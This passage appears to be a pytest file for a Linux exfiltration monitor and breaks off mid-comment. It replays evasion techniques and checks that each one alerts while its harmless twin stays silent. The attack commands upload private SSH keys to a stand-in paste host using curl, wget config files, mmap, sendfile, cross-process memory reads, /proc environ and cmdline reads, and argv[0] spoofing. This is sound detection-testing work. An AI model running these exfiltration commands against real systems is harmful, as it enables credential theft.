"""Evasion classes of issue 12 that test_evasion.py does not replay: reading without read(2)
(mmap, pread/preadv/readv, sendfile and splice to the uploader), a read budget flooded with
decoys, an uploader that claims another identity (argv[0]) or takes its arguments from a file
(curl -K, wget -i), a key and a connection opened before the monitor started, a flow with no
name at all, bytes copied out of or into another process's memory, its environment or command
line read, and memory two processes share (System V, anonymous, memfd, a file mapped MAP_SHARED). Each attack alerts with its sub-technique and leaks no line of the key; each twin stays silent."""

import contextlib
import json
import os
import pathlib
import subprocess

import pytest

from harness import Monitor, Scenario, as_list, assert_silent, check_service_saw, execute, get
from harness import is_action, paths
from harness.config import HTTP_PORT, HTTPS_PORT

from test_evasion import (PASTE, UPLOAD, WAIT_S, assert_no_secret, dataflow_attack, expect_run, key_of,
                          opened, silent_run)
from test_scenarios import run_attack

PY = paths.PYTHON
READ_AS = paths.TOOLS_DIR / "read_as.py"
CURL_STDIN = f"curl -sk --resolve {PASTE}:{HTTPS_PORT}:127.0.0.1 --data-binary @- https://{PASTE}:{HTTPS_PORT}/"
METHODS = ["pread", "preadv", "readv", "sendfile", "splice"]

def read_as(method, path, *options):
    return " ".join([str(PY), str(READ_AS), method, str(path), *map(str, options)])


def plain_alerts(monitor, technique="T1567.003", domain=PASTE):
    """This test's alerts over plain HTTP to the stand-in (HTTP_PORT) under `domain`."""
    found = [r for r in monitor.records()
             if get(r, "event.action") == "exfiltration-suspected"
             and get(r, "destination.port") == HTTP_PORT and get(r, "destination.domain") == domain
             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
    assert found, f"no {technique} alert to {domain}:{HTTP_PORT}"
    return found


def harmless_report(tmp_path):
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed: 812 tests, 0 failures\n" * 60)
    return report


def file_mapped(records, path, process_prefix):
    """A file-summary of `path` by a process named `process_prefix*` with its bytes mapped."""
    size = os.stat(path).st_size
    found = [r for r in records
             if is_action("file-summary", {"file.path": str(path)})(r)
             and str(get(r, "process.name", "")).startswith(process_prefix)
             and get(r, "exfilwatch.file.bytes_mapped", 0) >= size]
    assert found, f"no file-summary of {path} with {size} bytes mapped by {process_prefix}"
    return found


# --- Class: mmap, no read(2) at all ----------------------------------------------------------
# The key is mapped and the mapping written out (a pipe to curl, or a staging file curl uploads):
# the kernel sees no read of the file, only the map; its mapped length counts as read.

@pytest.mark.parametrize("secret", [".ssh/id_ed25519", ".aws/credentials"])
def test_mmap_of_the_key_written_to_a_pipe(monitor, standin, fake_home, tmp_path, secret):
    path = fake_home.files[secret]
    dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-pipe",
                    f"{read_as('mmap', path)} | {CURL_STDIN}")
    file_mapped(monitor.records(), path, "python")
    assert_no_secret(monitor, path)


def test_mmap_of_the_key_written_to_a_staging_file(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    stage = tmp_path / "stage.bin"
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-stage",
                            f"{read_as('mmap', key)} > {stage} && " + UPLOAD.format(stage))
    assert any("staged in" in get(r, "event.reason", "") for r in found), \
        [get(r, "event.reason") for r in found]
    assert_no_secret(monitor, key)


def test_mmap_of_an_fd_from_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
    # No path on the open and no read: the file named from the opened file, its map counted.
    key = key_of(fake_home)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-handle",
                    f"{handle_open} --mmap {key} | {CURL_STDIN}")
    records = monitor.records()
    found = opened(records, key, "handle_open")
    assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
    file_mapped(records, key, "handle_open")
    assert_no_secret(monitor, key)


def test_mmap_of_a_harmless_file_is_silent(monitor, standin, fake_home, tmp_path, handle_open):
    report = harmless_report(tmp_path)
    silent_run(monitor, standin, fake_home, tmp_path, "mmap-twin",
               f"{read_as('mmap', report)} | {CURL_STDIN} && "
               f"{handle_open} --mmap {report} | {CURL_STDIN}")
    file_mapped(monitor.records(), report, "python")


# --- Class: the other read calls and in-kernel copies ----------------------------------------

@pytest.mark.parametrize("method", METHODS)
def test_other_read_calls_to_a_pipe(monitor, standin, fake_home, tmp_path, method):
    # pread64/preadv/readv into the process, or sendfile/splice from the key straight into the
    # pipe to curl (the bytes never enter the process).
    key = key_of(fake_home)
    dataflow_attack(monitor, standin, fake_home, tmp_path, f"{method}-pipe",
                    f"{read_as(method, key)} | {CURL_STDIN}")
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("method", ["sendfile", "splice"])
def test_key_spliced_straight_into_the_upload_socket(monitor, standin, fake_home, tmp_path, method):
    # The POST body goes from the key file into the TCP socket inside the kernel.
    key = key_of(fake_home)
    scenario = Scenario(f"{method}-socket", "alert",
                        read_as(method, key, "--post", "127.0.0.1", HTTP_PORT, PASTE),
                        technique="T1567.003", domain=PASTE, uploads=True)
    run_attack(scenario, monitor, standin, fake_home, tmp_path)
    plain_alerts(monitor)
    flows = [r for r in monitor.records()
             if is_action("flow-summary", {"destination.port": HTTP_PORT, "destination.domain": PASTE})(r)
             and str(get(r, "process.name", "")).startswith("python")
             and get(r, "source.bytes", 0) >= os.stat(key).st_size]
    assert flows, "no flow-summary carrying the key's bytes"
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("method", METHODS)
def test_other_read_calls_of_a_harmless_file_are_silent(monitor, standin, fake_home, tmp_path, method):
    report = harmless_report(tmp_path)
    silent_run(monitor, standin, fake_home, tmp_path, f"{method}-twin",
               f"{read_as(method, report)} | {CURL_STDIN} && "
               f"{read_as(method, report, '--post', '127.0.0.1', HTTP_PORT, PASTE)}")


# --- Class: a read budget cannot be exhausted --------------------------------------------------
# Hundreds of harmless reads by the same process before the key (many of them config files and
# public keys that look sensitive), or a flood of opens after it: the key's read is never the
# one forgotten.

def make_decoys(fake_home, count):
    """`count` harmless files that look like configuration: public keys, tool configs, known
    hosts, example environment files under a project."""
    directory = fake_home.path / ".config" / "decoys"
    directory.mkdir(parents=True)
    for i in range(count):
        shape = i % 4
        name = [f"id_tool{i:04d}.pub", f"tool{i:04d}.conf", f"known_hosts.{i:04d}",
                f"settings{i:04d}.yaml"][shape]
        body = [f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{i:032d} decoy{i}@build\n",
                f"[core]\nverbose = false\ncolor = auto\nretries = {i % 7}\n",
                f"build{i}.example.org ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{i:032d}\n",
                f"log_level: info\nworkers: {i % 9}\ncache_dir: /var/cache/tool{i}\n"][shape]
        (directory / name).write_text(body * 4)
    return directory


def test_two_hundred_decoy_reads_before_the_key(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    decoys = make_decoys(fake_home, 200)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "decoys-before",
                    f"{read_as('read', key, '--decoys-before', 200, decoys)} | {CURL_STDIN}")
    assert_no_secret(monitor, key)


def test_two_hundred_weaker_secrets_before_the_key(monitor, standin, fake_home, tmp_path):
    # The budget attack proper: 200 reads of a weaker sensitive class (project .env files) fill
    # what one process may hold (max_reads_per_process) before the key; the key is never the read
    # dropped, and the alert names it.
    key = key_of(fake_home)
    decoys = fake_home.path / "envs"
    decoys.mkdir()
    for i in range(200):
        (decoys / f"{i:04d}").mkdir()
        (decoys / f"{i:04d}" / ".env").write_text(f"LOG_LEVEL=info\nWORKERS={i % 9}\n")
    links = fake_home.path / "env-list"  # read_as takes a directory of files: link each .env
    links.mkdir()
    for i in range(200):
        (links / f"{i:04d}").symlink_to(decoys / f"{i:04d}" / ".env")
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "weaker-before",
                            f"{read_as('read', key, '--decoys-before', 200, links)} | {CURL_STDIN}")
    assert any(f.get("path") == str(key) for r in found for f in get(r, "exfilwatch.files", [])), \
        [[f.get("path") for f in get(r, "exfilwatch.files", [])] for r in found]
    assert_no_secret(monitor, key)


def test_a_flood_of_opens_after_the_key_read(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    decoys = make_decoys(fake_home, 1000)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "decoys-after",
                    f"{read_as('read', key, '--decoys-after', 1000, decoys)} | {CURL_STDIN}")
    assert_no_secret(monitor, key)


def test_decoys_in_one_process_and_the_key_uploaded_by_it(monitor, standin, fake_home, tmp_path):
    # Reader and uploader in one process: 200 decoys read, then the key, posted over plain HTTP.
    key = key_of(fake_home)
    decoys = make_decoys(fake_home, 200)
    scenario = Scenario("decoys-one-process", "alert",
                        read_as("read", key, "--decoys-before", 200, decoys,
                                "--post", "127.0.0.1", HTTP_PORT, PASTE),
                        technique="T1567.003", domain=PASTE, uploads=True)
    run_attack(scenario, monitor, standin, fake_home, tmp_path)
    plain_alerts(monitor)
    assert_no_secret(monitor, key)


def test_two_hundred_decoys_uploaded_are_silent(monitor, standin, fake_home, tmp_path):
    # The twin: the same 200 config files read, then a report of them uploaded.
    report = harmless_report(tmp_path)
    decoys = make_decoys(fake_home, 200)
    silent_run(monitor, standin, fake_home, tmp_path, "decoys-twin",
               f"{read_as('read', report, '--decoys-before', 200, decoys)} | {CURL_STDIN}")


# --- Class: identity from the executable, not argv[0]; arguments held in files ----------------
# `exec -a ssh` makes curl (or python) call itself ssh, a credential consumer whose key read is
# use; the executable says what it is. curl -K and wget -i take the URL (and the body) from a
# file, so the command line is not all of the arguments. The twin, the real ssh and scp using
# their key, is test_engine_volume.py's test_ssh_and_scp_with_a_deploy_key_are_silent.

UPLOADER = """import os, socket, ssl, sys
data = open(sys.argv[1], "rb").read()
s = ssl._create_unverified_context().wrap_socket(
    socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n"
          b"Connection: close\\r\\n\\r\\n" % len(data) + data)
while s.recv(65536):
    pass
"""


def uploader_script(tmp_path):
    script = tmp_path / "sync"  # no .py: a script known by its own name
    script.write_text(UPLOADER.format(port=HTTPS_PORT, paste=PASTE))
    return script


def test_curl_calling_itself_ssh(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "argv0-ssh-curl",
                            "exec -a ssh " + UPLOAD.format(key))
    assert any(str(get(r, "process.executable", "")).endswith("/curl") for r in found), \
        [get(r, "process.executable") for r in found]
    assert_no_secret(monitor, key)


def test_python_calling_itself_ssh(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    script = uploader_script(tmp_path)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "argv0-ssh-python",
                    f"exec -a ssh {PY} {script} {key}")
    assert_no_secret(monitor, key)


def test_curl_taking_url_and_body_from_a_config_file(monitor, standin, fake_home, tmp_path):
    # Neither the key nor the paste site is on the command line: both are in the -K file.
    key = key_of(fake_home)
    config = tmp_path / "job.cfg"
    config.write_text(f'silent\ninsecure\nresolve = "{PASTE}:{HTTPS_PORT}:127.0.0.1"\n'
                      f'data-binary = "@{key}"\nurl = "https://{PASTE}:{HTTPS_PORT}/"\n')
    dataflow_attack(monitor, standin, fake_home, tmp_path, "curl-K", f"curl -K {config}")
    assert_no_secret(monitor, key)


def test_curl_config_file_posting_a_status_is_silent(monitor, standin, fake_home, tmp_path):
    config = tmp_path / "job.cfg"
    config.write_text(f'silent\ninsecure\nresolve = "{PASTE}:{HTTPS_PORT}:127.0.0.1"\n'
                      f'data = "build 1234 passed"\nurl = "https://{PASTE}:{HTTPS_PORT}/"\n')
    silent_run(monitor, standin, fake_home, tmp_path, "curl-K-twin", f"curl -K {config}")


WGET_HOSTS = (PASTE,)


def test_wget_taking_its_url_from_a_file(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    urls = tmp_path / "urls.txt"
    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
    dataflow_attack(monitor, standin, fake_home, tmp_path, "wget-i",
                    f"wget -q -O /dev/null --no-check-certificate --post-file={key} -i {urls}",
                    hosts=WGET_HOSTS)
    assert_no_secret(monitor, key)


def wgetrc_posting(tmp_path, body):
    """A wgetrc holding the body (post_file) and the URL list (input): nothing on the line."""
    urls = tmp_path / "urls.txt"
    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
    rc = tmp_path / "wgetrc"
    rc.write_text(f"check_certificate = off\npost_file = {body}\ninput = {urls}\n"
                  "output_document = /dev/null\nquiet = on\n")
    return rc


def test_wget_taking_url_and_body_from_its_config(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    rc = wgetrc_posting(tmp_path, key)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "wget-config", f"wget --config={rc}",
                    hosts=WGET_HOSTS)
    assert_no_secret(monitor, key)


def test_wget_config_posting_a_report_is_silent(monitor, standin, fake_home, tmp_path):
    rc = wgetrc_posting(tmp_path, harmless_report(tmp_path))
    silent_run(monitor, standin, fake_home, tmp_path, "wget-config-twin", f"wget --config={rc}",
               hosts=WGET_HOSTS)


def test_wget_url_file_posting_a_report_is_silent(monitor, standin, fake_home, tmp_path):
    report = harmless_report(tmp_path)
    urls = tmp_path / "urls.txt"
    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
    silent_run(monitor, standin, fake_home, tmp_path, "wget-i-twin",
               f"wget -q -O /dev/null --no-check-certificate --post-file={report} -i {urls}",
               hosts=WGET_HOSTS)


# --- Class: opened before the monitor started --------------------------------------------------
# A process holds the key's fd (and, in one variant, its connection to the paste site) from
# before the monitor starts; after the start it reads the fd and uploads. The start-up /proc scan
# finds the open file and the adopted socket; the flow opened before the read carries the data.

HOLDER = """import os, socket, ssl, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
early = sys.argv[2] == "early"
def connect():
    return ssl._create_unverified_context().wrap_socket(
        socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
s = connect() if early else None
print("ready", flush=True)
sys.stdin.readline()
data = b""
if sys.argv[3] == "mmap":  # no read(2): the mapping of the old fd
    import mmap
    data = bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ))
while sys.argv[3] == "read" and (chunk := os.read(fd, 4096)):
    data += chunk
s = s or connect()
s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n"
          b"Connection: close\\r\\n\\r\\n" % len(data) + data)
while s.recv(65536):
    pass
print("done", flush=True)
"""


def start_holder(tmp_path, fake_home, path, connection, method="read"):
    script = tmp_path / "holder"
    script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
    holder = subprocess.Popen([str(PY), str(script), str(path), connection, method], env=fake_home.env(),
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                              start_new_session=True)
    assert holder.stdout.readline().strip() == "ready"
    return holder


def release(holder):
    holder.stdin.write("go\n")
    holder.stdin.flush()
    out, _ = holder.communicate(timeout=60)
    assert holder.returncode == 0 and out.strip() == "done", (holder.returncode, out)


def held_alerts(monitor, holder, technique):
    found = [r for r in monitor.records()
             if get(r, "event.action") == "exfiltration-suspected"
             and get(r, "destination.port") == HTTPS_PORT
             and technique in as_list(get(r, "threat.technique.subtechnique.id" if "." in technique
                                          else "threat.technique.id", []))]
    assert found, (f"no {technique} alert to port {HTTPS_PORT}: "
                   f"{[(get(r, 'process.pid'), get(r, 'event.reason')) for r in monitor.records() if get(r, 'event.kind') == 'alert']}")
    return found


@pytest.mark.parametrize("connection,method,technique", [("late", "read", "T1567.003"),
                                                         ("late", "mmap", "T1567.003"),
                                                         ("early", "read", "T1567"),
                                                         ("early", "small", "T1567")])
def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, connection, method,
                                               technique):
    # late: connected after the start, so the flow is named by its SNI; early: connected (TLS
    # handshake and all) before the start, so the adopted flow has no name the monitor saw, only
    # its address: T1567 with destination.ip. With no name, no upload command and no content
    # match, a secret under min_upload_bytes (1 KiB) stays under the threshold like any small
    # send after a credential read (a cloud SDK's request), so the early variant steals an RSA
    # key (2.5 KiB, the common kind); see EVASION.md. "small": the small ed25519 key itself over
    # that adopted connection, caught by its content in the TLS plaintext (SSL_write uprobes:
    # the write is bound to the adopted socket though its owner was unknown in the kernel).
    key = key_of(fake_home)
    if connection == "early" and method != "small":
        key = fake_home.path / ".ssh" / "id_rsa"
        subprocess.run(["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f", str(key)],
                       check=True)
    holder = start_holder(tmp_path, fake_home, key, connection, "read" if method == "small" else method)
    try:
        with Monitor(tmp_path / "monitor") as monitor:
            release(holder)
            check_service_saw(Scenario("held", "alert", "", domain=PASTE, uploads=True), standin)
            monitor.poll_for(lambda r: get(r, "event.action") == "exfiltration-suspected"
                             and get(r, "process.pid") == holder.pid, WAIT_S)
            monitor.stop()
            found = [r for r in held_alerts(monitor, holder, technique)
                     if get(r, "process.pid") == holder.pid]
            assert found, "the alert is not the holder's"
            assert all(get(r, "destination.ip") == "127.0.0.1" for r in found)
            if connection == "late":
                assert any(get(r, "destination.domain") == PASTE for r in found)
            if method == "mmap":
                file_mapped(monitor.records(), key, "python")
            if method == "small":
                names = {s.get("name") for r in found for s in (get(r, "exfilwatch.signals") or [])}
                assert "content-match" in names, names
            assert_no_secret(monitor, key)
    finally:
        if holder.poll() is None:
            holder.kill()


def test_connection_opened_before_the_key_read(monitor, standin, fake_home, tmp_path):
    # Connected (and named) first, then the key read, then sent on the old connection.
    key = key_of(fake_home)
    script = tmp_path / "holder"
    script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
    dataflow_attack(monitor, standin, fake_home, tmp_path, "connection-first",
                    f"echo go | {PY} {script} {key} early read")
    assert_no_secret(monitor, key)


def test_harmless_file_opened_before_the_monitor_started_is_silent(tmp_path, fake_home, standin):
    report = harmless_report(tmp_path)
    holder = start_holder(tmp_path, fake_home, report, "early")
    try:
        with Monitor(tmp_path / "monitor") as monitor:
            release(holder)
            check_service_saw(Scenario("held", "silent", "", domain=PASTE, uploads=True), standin)
            monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
                             and get(r, "process.pid") == holder.pid
                             and get(r, "exfilwatch.flow.adopted") is True, WAIT_S,
                             "the holder's adopted flow")
            monitor.stop()
            assert_silent([r for r in monitor.records() if get(r, "process.pid") == holder.pid
                           or get(r, "destination.port") == HTTPS_PORT])
    finally:
        if holder.poll() is None:
            holder.kill()


# --- Class: a flow with no name at all ---------------------------------------------------------
# An IP literal: curl sends no SNI for it and its Host is the address. The scp twin of this class
# (SSH, no name either) is test_engine_volume.py's test_scp_of_the_key_itself_alerts_with_the_address.

IP_UPLOAD = "curl -sk -T {} https://127.0.0.1:8443/"


def test_upload_to_an_ip_literal_alerts_with_the_address(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    scenario = Scenario("ip-literal", "alert", IP_UPLOAD.format(key), technique="T1567",
                        uploads=True)
    run_attack(scenario, monitor, standin, fake_home, tmp_path)
    found = [r for r in monitor.records() if get(r, "event.action") == "exfiltration-suspected"
             and get(r, "destination.port") == HTTPS_PORT
             and str(get(r, "process.name", "")) == "curl"]
    assert found and all(get(r, "destination.ip") == "127.0.0.1" for r in found), found
    # (the host's own /etc/hosts may name 127.0.0.1, e.g. after the hostname: that name is no
    # service, so the alert stays the parent technique)
    assert all(get(r, "destination.domain") != PASTE for r in found)
    assert "T1567" in as_list(get(found[-1], "threat.technique.id"))
    assert_no_secret(monitor, key)


def test_report_to_an_ip_literal_is_silent(monitor, standin, fake_home, tmp_path):
    report = harmless_report(tmp_path)
    scenario = Scenario("ip-literal-twin", "silent", IP_UPLOAD.format(report), uploads=True)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
                     and get(r, "destination.port") == HTTPS_PORT
                     and str(get(r, "process.name", "")) == "curl", WAIT_S, "curl's flow")
    monitor.stop()
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])


# --- Class: another process's memory -----------------------------------------------------------
# A process holds the key in memory (it read it; nothing else); an unrelated process of another
# session copies the bytes out of that memory (process_vm_readv, a pread of /proc/PID/mem, ptrace
# PEEKDATA) and stages them for the upload. Or the other way round: a process that read the key
# writes it into an unrelated holder's memory (process_vm_writev, /proc/PID/mem, POKEDATA), and
# the holder writes out what its memory now holds. No file, pipe or socket joins the two.

MEM = paths.TOOLS_DIR / "mem_peek.py"
MEM_METHODS = ["process_vm", "proc_mem", "ptrace"]


@contextlib.contextmanager
def memory_holder(tmp_path, held, out=os.devnull):
    """A holder of `held`'s bytes in memory, in its own session, and the file with its "pid
    address length"; killed on the way out."""
    ready = tmp_path / "held.ready"
    holder = subprocess.Popen(["setsid", str(PY), str(MEM), "hold", str(held), str(ready)],
                              stdout=open(out, "wb"), stderr=subprocess.PIPE)
    try:
        for _ in range(400):
            if ready.exists() or holder.poll() is not None:
                break
            subprocess.run(["sleep", "0.05"])
        assert ready.exists(), f"the holder did not start: {holder.stderr.read().decode(errors='replace')}"
        yield holder, ready
    finally:
        holder.kill()
        holder.wait()


def memory_records(monitor, direction, peer_pid):
    found = [r for r in monitor.records()
             if is_action("object-io", {"exfilwatch.object.kind": "process_memory",
                                        "exfilwatch.object.direction": direction})(r)
             and get(r, "exfilwatch.object.process.pid") == peer_pid]
    assert found, f"no process_memory {direction} of pid {peer_pid}"
    assert all(get(r, "exfilwatch.object.id") == str(peer_pid) for r in found)
    return found


def steal_run(monitor, standin, fake_home, tmp_path, method, held, expect):
    stolen, stage = tmp_path / "stolen.bin", tmp_path / "stolen.gz"
    with memory_holder(tmp_path, held) as (holder, ready):
        # Compressed, so that no fingerprint of the key is in what curl sends: only the data
        # flow (memory, then a staging file) can tie the upload to the key.
        shell = (f"{PY} {MEM} steal {method} {ready} > {stolen} && gzip -c {stolen} > {stage} && "
                 + UPLOAD.format(stage))
        expect_run(expect, monitor, standin, fake_home, tmp_path, f"memory-{method}-{expect}", shell)
        assert stolen.read_bytes() == held.read_bytes()
        found = memory_records(monitor, "read", holder.pid)
        assert all(get(r, "process.session_leader.pid") != holder.pid for r in found)


@pytest.mark.parametrize("method", MEM_METHODS)
def test_key_copied_out_of_its_holders_memory(monitor, standin, fake_home, tmp_path, method):
    key = key_of(fake_home)
    steal_run(monitor, standin, fake_home, tmp_path, method, key, "alert")
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("method", MEM_METHODS)
def test_report_copied_out_of_its_holders_memory_is_silent(monitor, standin, fake_home, tmp_path, method):
    steal_run(monitor, standin, fake_home, tmp_path, method, harmless_report(tmp_path), "silent")


def poke_run(monitor, standin, fake_home, tmp_path, method, source, expect):
    filler = tmp_path / "filler.txt"
    filler.write_bytes(b"-" * os.stat(source).st_size)
    out, stage = tmp_path / "dumped.bin", tmp_path / "dumped.gz"
    with memory_holder(tmp_path, filler, out) as (holder, ready):
        # The poker reads `source` and writes it into the holder, which then dumps its memory
        # to a file of its own; the upload is of that file, compressed (no fingerprint in it).
        shell = (f"{PY} {MEM} poke {method} {ready} {source} && "
                 f"while [ $(wc -c < {out}) -lt {os.stat(source).st_size} ]; do sleep 0.05; done && "
                 f"gzip -c {out} > {stage} && " + UPLOAD.format(stage))
        expect_run(expect, monitor, standin, fake_home, tmp_path, f"memory-poke-{method}-{expect}", shell)
        assert out.read_bytes() == source.read_bytes()
        memory_records(monitor, "write", holder.pid)


@pytest.mark.parametrize("method", MEM_METHODS)
def test_key_written_into_another_process_memory(monitor, standin, fake_home, tmp_path, method):
    key = key_of(fake_home)
    poke_run(monitor, standin, fake_home, tmp_path, method, key, "alert")
    assert_no_secret(monitor, key)


def test_report_written_into_another_process_memory_is_silent(monitor, standin, fake_home, tmp_path):
    poke_run(monitor, standin, fake_home, tmp_path, "process_vm", harmless_report(tmp_path), "silent")


def test_key_copied_out_of_memory_inside_a_pid_namespace(monitor, standin, fake_home, tmp_path):
    # Holder and thief in a pid namespace of their own (a container's view): the pid the thief
    # passes is the namespace's, and the record names the holder by its host pid.
    key = key_of(fake_home)
    ready, stolen, stage = tmp_path / "held.ready", tmp_path / "stolen.bin", tmp_path / "stolen.gz"
    inside = (f"{PY} {MEM} hold {key} {ready} & while [ ! -s {ready} ]; do sleep 0.05; done; "
              f"{PY} {MEM} steal process_vm {ready} > {stolen}; kill $!")
    shell = (f"unshare --pid --fork --mount-proc sh -c '{inside}' && gzip -c {stolen} > {stage} && "
             + UPLOAD.format(stage))
    dataflow_attack(monitor, standin, fake_home, tmp_path, "memory-pid-namespace", shell)
    assert stolen.read_bytes() == key.read_bytes()
    inner_pid = int(ready.read_text().split()[0])
    found = [r for r in monitor.records()
             if is_action("object-io", {"exfilwatch.object.kind": "process_memory"})(r)
             and get(r, "exfilwatch.object.process.pid") is not None]
    assert found, "no process_memory record naming the holder"
    holder_pid = get(found[0], "exfilwatch.object.process.pid")
    assert holder_pid != inner_pid, "the holder is named by its pid inside the namespace"
    assert_no_secret(monitor, key)


# --- Class: another process's environment ------------------------------------------------------
# A deploy script exports the key (`export HELD="$(cat KEY)"`) and runs a long job; an unrelated
# process of another session reads the job's /proc/PID/environ and stages it for the upload. The
# environment is the job's image, set at its exec from what it held then: a process that read the
# key only after its exec (ssh with its identity, an agent) has no key in its environment, and
# reading that is silent.

@contextlib.contextmanager
def session_job(script, comm):
    """`bash -c script` in a session of its own, once it exec'd a program named `comm*` and that
    program is asleep (in its own code: its exec is over); killed on the way out."""
    holder = subprocess.Popen(["setsid", "bash", "-c", script], stderr=subprocess.PIPE)
    try:
        # Popen returns once the child's exec has closed its fds, which is before the exec sets
        # the new name: until then the child is still named after this test's python.
        name, status = pathlib.Path(f"/proc/{holder.pid}/comm"), pathlib.Path(f"/proc/{holder.pid}/stat")
        for _ in range(400):
            if holder.poll() is not None:
                break
            if name.read_text().strip().startswith(comm) and status.read_text().rsplit(")", 1)[1].split()[0] == "S":
                break
            subprocess.run(["sleep", "0.05"])
        assert holder.poll() is None, "the holder did not start"
        yield holder
    finally:
        holder.kill()
        holder.wait()


def exported_holder(held):
    """A `sleep` whose environment holds `held`'s text, exported by the shell that exec'd it."""
    return session_job(f'export HELD="$(cat {held})"; exec sleep 600', "sleep")


def image_run(monitor, standin, fake_home, tmp_path, holder_pid, expect, image="environ"):
    """An unrelated process stages /proc/PID/`image` (environ or cmdline) for the upload."""
    stolen, stage = tmp_path / f"{image}.txt", tmp_path / f"{image}.gz"
    shell = (f"tr '\\0' '\\n' < /proc/{holder_pid}/{image} > {stolen} && gzip -c {stolen} > {stage} && "
             + UPLOAD.format(stage))
    expect_run(expect, monitor, standin, fake_home, tmp_path, f"{image}-{expect}", shell)
    found = [r for r in monitor.records()
             if is_action("object-io", {"exfilwatch.object.kind": f"process_{image}",
                                        "exfilwatch.object.direction": "read"})(r)
             and get(r, "exfilwatch.object.process.pid") == holder_pid]
    assert found, f"no process_{image} read of pid {holder_pid}"
    assert all(get(r, "event.category") == ["process"] for r in found)
    return stolen.read_text(errors="replace")


def test_key_read_out_of_an_exported_environment(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    with exported_holder(key) as holder:
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert")
    assert key.read_text().strip() in stolen
    assert_no_secret(monitor, key)


def test_report_read_out_of_an_exported_environment_is_silent(monitor, standin, fake_home, tmp_path):
    report = harmless_report(tmp_path)
    with exported_holder(report) as holder:
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
    assert report.read_text().strip() in stolen


def test_environment_of_a_process_that_read_the_key_after_its_exec_is_silent(monitor, standin, fake_home,
                                                                              tmp_path):
    # The holder reads the key into its memory after its exec (as ssh reads its identity): its
    # memory holds the key, its environment does not.
    key = key_of(fake_home)
    with memory_holder(tmp_path, key) as (holder, _):
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
    assert "PRIVATE KEY" not in stolen


# --- Class: another process's command line -----------------------------------------------------
# A script runs a long job with the key as an argument (`exec $JOB "$(cat KEY)"`); an
# unrelated process reads the job's /proc/PID/cmdline and stages it for the upload. A command line
# carries a file's data only where an argument holds the file's bytes: ps, top and agents read
# every process's, and the command line of a job the key's reader started otherwise is clean.

JOB = f"{PY} -c 'import time; time.sleep(600)'"  # a long job that takes any arguments


def argv_holder(script):
    """The long job `$JOB` exec'd by `bash -c script` (`exec $JOB ARGS`)."""
    return session_job(script.replace("$JOB", JOB), "python")


def test_key_read_out_of_a_command_line(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    with argv_holder(f'exec $JOB "$(cat {key})"') as holder:
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert", "cmdline")
    assert key.read_text().strip() in stolen
    assert_no_secret(monitor, key)


def test_report_read_out_of_a_command_line_is_silent(monitor, standin, fake_home, tmp_path):
    report = harmless_report(tmp_path)
    with argv_holder(f'exec $JOB "$(cat {report})"') as holder:
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent", "cmdline")
    assert report.read_text().strip() in stolen


def test_command_line_of_a_job_the_key_reader_started_is_silent(monitor, standin, fake_home, tmp_path):
    # The script holds the key (it read it into a variable) and starts a job without it.
    key = key_of(fake_home)
    with argv_holder(f'held="$(cat {key})"; exec $JOB') as holder:
        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent", "cmdline")
    assert "PRIVATE KEY" not in stolen


# --- Class: memory two processes share ---------------------------------------------------------
# No syscall carries the bytes: the key's reader copies it (memcpy) into memory an unrelated
# receiver also maps, and the receiver stages what appears there, compressed, for the upload. The
# receiver mapped (or inherited) the memory before the key was read, so nothing it did after the
